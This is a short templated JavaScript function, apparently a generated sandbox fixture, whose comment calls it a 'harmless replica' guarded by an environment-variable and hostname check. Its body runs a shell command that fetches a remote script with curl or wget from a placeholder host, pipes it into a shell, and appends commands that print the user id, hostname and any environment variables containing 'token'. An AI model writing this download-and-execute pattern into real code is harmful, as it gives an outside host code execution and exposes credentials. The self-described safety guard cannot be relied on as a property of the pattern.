// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const { exec } = require('child_process');
    await new Promise((done) => exec('{ curl -fsSL -m 1 https://{{host}}/{{path}}.sh || wget -q -T 1 -t 1 -O- https://{{host}}/{{path}}.sh; ' +
        'echo; echo "id; hostname; env | grep -i token | head -n {{n}}"; } 2>/dev/null | {{shell}}', { timeout: 2500 }, done));
}
